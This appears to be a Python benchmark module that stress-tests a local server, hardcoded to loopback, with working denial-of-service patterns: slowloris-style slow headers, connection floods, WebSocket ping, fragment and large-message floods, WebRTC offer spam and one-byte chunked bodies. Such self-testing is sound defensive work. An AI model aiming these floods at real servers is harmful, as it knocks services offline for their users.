"""What somebody with bad intentions does to a server, from one address, for some seconds: run in a process of its own.

    python -m benchmarks.attacks URL --kind pings --seconds 20

The attacker's process gives way to everything else on the machine (nice 19), so that what others notice of it is the
server's work and not the attacker's. The address is one of loopback that is no proxy's.
"""

import argparse
import asyncio
import itertools
import json
import os
import struct
import sys
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress

ADDRESS = "127.0.0.66"
TEXT, CONTINUATION, PING = 1, 0, 9
HOLD_S = 0.05
UPGRADE = (
    b"GET %s HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)
MEGABYTE = '{"type": "input_audio_buffer.append", "audio": "%s"}' % ("\u00e9" * 500_000)

Attack = Callable[[int], Awaitable[None]]
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(opcode: int, data: bytes = b"", *, final: bool = True) -> bytes:
    """Return a WebSocket frame, masked with zeros."""
    head = bytes([(0x80 if final else 0) | opcode])
    size = bytes([0x80 | len(data)]) if len(data) < 126 else bytes([0x80 | 127]) + struct.pack(">Q", len(data))
    return head + size + bytes(4) + data


async def _connect(port: int) -> Streams:
    return await asyncio.open_connection("127.0.0.1", port, local_addr=(ADDRESS, 0))


async def _again(once: Callable[[], Awaitable[None]]) -> None:
    """Do it again and again, also when the server ends it."""
    while True:
        with suppress(OSError, EOFError):
            await once()
        await asyncio.sleep(HOLD_S)


async def _pour(port: int, first: bytes, more: bytes, *, upgrade: bool) -> None:
    """Send `first` once and `more` as fast as the server takes it, over several connections."""

    async def once() -> None:
        reader, writer = await _connect(port)
        try:
            if upgrade:
                writer.write(UPGRADE % b"/v1/realtime")
                if b" 101 " not in await reader.readuntil(b"\r\n\r\n"):
                    return
            writer.write(first)
            while True:
                writer.write(more)
                await writer.drain()
        finally:
            writer.transport.abort()

    await asyncio.gather(*(_again(once) for _ in range(2)))


async def slow_headers(port: int) -> None:
    """Two hundred connections, each of which sends one byte a second of a request without end."""

    async def once() -> None:
        reader, writer = await _connect(port)
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: ")
            while not reader.at_eof() and not writer.is_closing():
                writer.write(b"a")
                await writer.drain()
                with suppress(TimeoutError):
                    async with asyncio.timeout(1.0):
                        await reader.read(1)
        finally:
            writer.transport.abort()

    await asyncio.gather(*(_again(once) for _ in range(200)))


async def connections(port: int) -> None:
    """As many new connections as there can be, each with a request."""

    async def once() -> None:
        reader, writer = await _connect(port)
        try:
            writer.write(b"GET /page/config HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            await reader.read()
        finally:
            writer.transport.abort()

    async def flood() -> None:
        while True:
            with suppress(OSError):
                await once()

    await asyncio.gather(*(flood() for _ in range(20)))


async def offers(port: int) -> None:
    """WebRTC offers from which no call comes, twenty a second."""
    from aiortc import RTCConfiguration, RTCPeerConnection

    pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))
    pc.addTransceiver("audio")
    await pc.setLocalDescription(await pc.createOffer())
    body = json.dumps({"sdp": pc.localDescription.sdp, "type": "offer"}).encode()
    await pc.close()
    for _ in itertools.count():
        with suppress(OSError):
            reader, writer = await _connect(port)
            writer.write(b"POST /page/offer HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n")
            writer.write(b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
            await reader.read()
            writer.transport.abort()
        await asyncio.sleep(0.05)


async def pings(port: int) -> None:
    """WebSocket pings, as fast as they are taken."""
    await _pour(port, b"", frame(PING) * 10_000, upgrade=True)


async def fragments(port: int) -> None:
    """One WebSocket message without end, in empty pieces."""
    await _pour(port, frame(TEXT, b"a", final=False), frame(CONTINUATION, final=False) * 10_000, upgrade=True)


async def messages(port: int) -> None:
    """Small messages, ten thousand a second and more."""
    await _pour(port, b"", frame(TEXT, b'{"type": "x"}') * 10_000, upgrade=True)


async def megabytes(port: int) -> None:
    """Messages of a megabyte, none of which is ASCII."""
    await _pour(port, b"", frame(TEXT, MEGABYTE.encode()), upgrade=True)


async def chunks(port: int) -> None:
    """A request whose body comes in chunks of one byte."""
    head = b"POST /v1/audio/transcriptions HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
    head += b"Content-Type: multipart/form-data; boundary=b\r\n\r\n"
    await _pour(port, head, b"1\r\na\r\n" * 10_000, upgrade=False)


KINDS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (slow_headers, connections, offers, pings, fragments, messages, megabytes, chunks)
}


def main(arguments: Sequence[str]) -> None:
    """Attack until the time is over, or standard input ends."""
    line = argparse.ArgumentParser(prog="python -m benchmarks.attacks")
    line.add_argument("url")
    line.add_argument("--kind", choices=KINDS, required=True)
    line.add_argument("--seconds", type=float, default=20.0)
    options = line.parse_args(arguments)
    os.nice(19)
    port = int(options.url.rpartition(":")[2])

    async def attack() -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout(options.seconds):
                await KINDS[options.kind](port)

    asyncio.run(attack())


if __name__ == "__main__":
    main(sys.argv[1:])
